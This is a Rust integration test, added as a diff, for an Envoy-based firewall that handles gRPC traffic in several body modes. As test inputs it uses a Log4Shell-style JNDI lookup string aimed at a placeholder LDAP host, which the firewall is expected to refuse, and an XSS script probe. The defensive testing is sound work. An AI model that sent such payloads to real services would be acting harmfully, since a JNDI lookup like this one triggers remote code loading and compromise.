@@ -1,0 +1,187 @@
+//! Calls of gRPC through Envoy, in each body mode in which it can be set up: metadata is inspected, and messages
+//! arrive one by one and unchanged.
+
+use std::time::Duration;
+
+use glacis_tests::grpc::{Client, FAIL, NOTES, REPEATED, TRAILER};
+use glacis_tests::http::Request;
+use glacis_tests::http2;
+use glacis_tests::stack::{Processor, Stack};
+use tokio::time::timeout;
+use tonic::{Code, Status};
+
+use crate::support::{Own, client, eventually};
+
+/// By default CRS refuses the media type: a profile for gRPC has to allow it.
+const KEYS: &str = "
+setup: |
+  SecAction \"id:900220,phase:1,pass,nolog,setvar:'tx.allowed_request_content_type=|application/grpc|'\"
+";
+
+/// The modes of bodies, of requests and responses alike, and whether trailers are sent.
+const MODES: [(&str, &str, &str); 5] = [
+    ("none", "NONE", "SKIP"),
+    ("streamed", "STREAMED", "SEND"),
+    ("buffered", "BUFFERED", "SEND"),
+    ("partial", "BUFFERED_PARTIAL", "SEND"),
+    ("duplex", "FULL_DUPLEX_STREAMED", "SEND"),
+];
+
+const CLUSTERS: (&str, &str) = (
+    "  clusters:\n",
+    r#"  clusters:
+  - name: grpc-upstream
+    type: STATIC
+    load_assignment:
+      cluster_name: grpc-upstream
+      endpoints: [{lb_endpoints: [{endpoint: {address: {socket_address: {address: 127.0.0.1, port_value: UPSTREAM}}}}]}]
+    typed_extension_protocol_options:
+      envoy.extensions.upstreams.http.v3.HttpProtocolOptions:
+        "@type": type.googleapis.com/envoy.extensions.upstreams.http.v3.HttpProtocolOptions
+        explicit_http_config: {http2_protocol_options: {}}
+"#,
+);
+
+/// The routes, one for each mode, and before them what shows whether the answer to the headers changes it.
+fn routes() -> String {
+    let route = |(name, body, trailers): &(&str, &str, &str)| {
+        format!(
+            r#"              - name: {name}
+                match: {{prefix: /{name}/}}
+                route: {{cluster: grpc-upstream, timeout: 0s}}
+                typed_per_filter_config:
+                  envoy.filters.http.ext_proc:
+                    "@type": type.googleapis.com/envoy.extensions.filters.http.ext_proc.v3.ExtProcPerRoute
+                    overrides:
+                      processing_mode:
+                        request_header_mode: SEND
+                        response_header_mode: SEND
+                        request_body_mode: {body}
+                        response_body_mode: {body}
+                        request_trailer_mode: {trailers}
+                        response_trailer_mode: {trailers}
+"#
+        )
+    };
+    let routes: String = MODES.iter().map(route).collect();
+    format!("{routes}              - name: closed\n")
+}
+
+fn start(name: &str) -> Own {
+    let ports = glacis_tests::stack::Ports::free().unwrap();
+    let clusters = CLUSTERS.1.replace("UPSTREAM", &ports.upstream.to_string());
+    let edits = [(CLUSTERS.0, &*clusters), ("              - name: closed\n", &routes())];
+    Own::on(name, ports, Processor::ExtProcWith(KEYS), &edits)
+}
+
+fn run(test: impl Future<Output = ()>) {
+    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
+    runtime.block_on(async { timeout(Duration::from_secs(30), test).await.unwrap() });
+}
+
+/// A message longer than one frame of HTTP/2.
+fn long(word: &str) -> String {
+    word.repeat(40_000 / word.len())
+}
+
+fn request(message: &str) -> tonic::Request<String> {
+    let mut request = tonic::Request::new(message.to_owned());
+    request.metadata_mut().insert(NOTES[0], "a note".parse().unwrap());
+    let bytes = tonic::metadata::MetadataValue::from_bytes(b"\x00\xff<script>");
+    request.metadata_mut().insert_bin(NOTES[1], bytes);
+    request
+}
+
+#[test]
+fn calls_work_in_each_mode() {
+    let own = start("grpc");
+    run(async {
+        for (mode, ..) in MODES {
+            calls_work(&own.0, mode).await.unwrap_or_else(|status| panic!("{mode}: {status:?}"));
+        }
+        refused(&own.0).await;
+    });
+    passes_are_counted(&own.0);
+    nobody_there(own);
+}
+
+async fn calls_work(stack: &Stack, mode: &str) -> Result<(), Status> {
+    let prefix = format!("/{mode}/glacis.test.Text/");
+    let mut calls = Client::connect(stack.proxy(), &prefix).await.unwrap();
+
+    let echoed = calls.unary(request(&long("word "))).await?;
+    assert_eq!(echoed.messages, [long("word ")], "{mode}");
+    assert_eq!(echoed.metadata.get(NOTES[0]).unwrap(), "a note", "{mode}");
+    let bytes = echoed.metadata.get_bin(NOTES[1]).unwrap().to_bytes().unwrap();
+    assert_eq!(&bytes[..], b"\x00\xff<script>", "{mode}");
+
+    // Messages are not looked at: this would be an attack elsewhere.
+    let messages = vec!["<script>alert(1)</script>".to_owned(), String::new(), long("and more ")];
+    let collected = calls.collect(messages.clone()).await?;
+    assert_eq!(collected.messages, [messages.concat()], "{mode}");
+
+    let repeated = calls.repeat(request("again ")).await?;
+    assert_eq!(repeated.messages.len(), REPEATED, "{mode}");
+
+    // What is said is heard before more is said: nobody on the way waits for an end.
+    let mut chat = calls.chat("hello").await?;
+    assert_eq!(chat.hear().await?.as_deref(), Some("hello"), "{mode}");
+    for message in ["and again", "", &long("at length ")] {
+        chat.say(message).await?;
+        assert_eq!(chat.hear().await?.as_deref(), Some(message), "{mode}");
+    }
+    assert_eq!(chat.end().await?, None, "{mode}");
+
+    let mut chat = calls.chat("hello").await?;
+    assert_eq!(chat.hear().await?.as_deref(), Some("hello"), "{mode}");
+    chat.say(FAIL).await?;
+    let status = chat.hear().await.unwrap_err();
+    assert_eq!((status.code(), status.message()), (Code::FailedPrecondition, "as asked for"));
+    assert_eq!(status.metadata().get(TRAILER).unwrap(), "asked for", "{mode}");
+    Ok(())
+}
+
+const ATTACK: &str = "${jndi:ldap://192.0.2.1/a}";
+
+/// The client is told in the words of gRPC.
+async fn refused(stack: &Stack) {
+    for (mode, ..) in MODES {
+        let prefix = format!("/{mode}/glacis.test.Text/");
+        let mut calls = Client::connect(stack.proxy(), &prefix).await.unwrap();
+        let mut request = request("hello");
+        request.metadata_mut().insert(NOTES[0], ATTACK.parse().unwrap());
+        let status = calls.repeat(request).await.unwrap_err();
+        assert_eq!(status.code(), Code::PermissionDenied, "{mode}: {status:?}");
+        assert!(status.message().starts_with("Forbidden; request "), "{mode}: {status:?}");
+    }
+    let to = stack.proxy();
+    let answer = tokio::task::spawn_blocking(move || {
+        let request = Request::post("/none/glacis.test.Text/Echo", "application/grpc", "");
+        let request = request.header("te", "trailers").header(NOTES[0], ATTACK);
+        http2::send(client(), to, &request).unwrap()
+    });
+    let answer = answer.await.unwrap();
+    assert_eq!((answer.status, answer.body.len()), (200, 0), "{answer:?}");
+    assert_eq!(answer.header("content-type"), Some("application/grpc"), "{answer:?}");
+    assert_eq!(answer.header("grpc-status"), Some("7"), "{answer:?}");
+}
+
+/// That messages pass uninspected is no secret.
+fn passes_are_counted(stack: &Stack) {
+    let name = r#"glacis_uninspected_total{reason="grpc_body"}"#;
+    // Five calls that pass, and one that is refused with its messages unseen.
+    let calls = MODES.len() as f64 * 6.0;
+    eventually("each call is counted", Duration::from_secs(5), || {
+        stack.ext_proc.as_ref().unwrap().metrics().unwrap()[name] == calls
+    });
+}
+
+/// What could not be checked is refused in these words as well.
+fn nobody_there(mut own: Own) {
+    own.0.ext_proc.as_mut().unwrap().process().kill();
+    run(async {
+        let mut calls = Client::connect(own.0.proxy(), "/none/glacis.test.Text/").await.unwrap();
+        let status = calls.unary(request("hello")).await.unwrap_err();
+        assert_eq!(status.code(), Code::Unavailable, "{status:?}");
+    });
+}
